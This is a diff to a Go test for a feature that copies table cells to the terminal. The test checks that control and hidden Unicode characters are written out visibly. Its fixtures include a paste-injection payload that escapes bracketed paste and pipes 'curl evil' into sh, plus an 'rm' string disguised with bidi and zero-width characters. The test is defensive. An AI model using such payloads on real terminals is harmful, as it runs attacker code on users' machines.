@@ -15,7 +15,8 @@ import (
 func TestACopyWritesControlCharactersOutAndSaysSo(t *testing.T) {
 	for text, want := range map[string]struct{ copied, says string }{
 		"V-00001\tLeeds\n":           {"V-00001\tLeeds\n", "Copied 1 cell, if the terminal takes it: it does not say."},
-		"x\x1b[201~curl evil|sh\r\n": {"x^[[201~curl evil|sh\r\n", "Copied 1 cell; its control characters are written out, as on the screen, if the terminal takes it: it does not say."},
+		"rm \u202e\u2066x\u200b":     {"rm <U+202E><U+2066>x<U+200B>", "Copied 1 cell; its hidden characters are written out, as on the screen, if the terminal takes it: it does not say."},
+		"x\x1b[201~curl evil|sh\r\n": {"x^[[201~curl evil|sh\r\n", "Copied 1 cell; its hidden characters are written out, as on the screen, if the terminal takes it: it does not say."},
 	} {
 		out, err := os.OpenFile(filepath.Join(t.TempDir(), "out"), os.O_RDWR|os.O_CREATE, 0o600)
 		if err != nil {
